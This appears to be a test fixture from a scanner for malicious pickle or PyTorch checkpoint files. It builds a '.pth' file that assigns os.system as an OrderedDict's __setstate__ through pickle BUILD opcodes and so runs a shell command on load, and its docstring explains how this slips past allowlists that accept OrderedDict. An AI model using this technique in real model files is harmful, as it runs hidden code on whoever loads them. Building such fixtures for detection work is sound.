"""BUILD calls __setstate__ of the object. An OrderedDict takes attributes, so the first BUILD gives it os.system for its
__setstate__, and the second calls it. The only thing that is called by REDUCE is OrderedDict, which everybody accepts."""
from assembling import HOOKS, SYSTEM, checkpoint, dictionary, shell, state_dict, text

VERDICT, FINDINGS, INSPECT, FIRES = "dangerous", ["dangerousGlobal"], ("inert", "unexpectedObject"), {"load": "runs"}


def build(canary):
    built = HOOKS + dictionary(__setstate__=SYSTEM) + b"b" + text(shell(canary)) + b"b"
    return {"setstate.pth": checkpoint(state_dict(extra=built))}
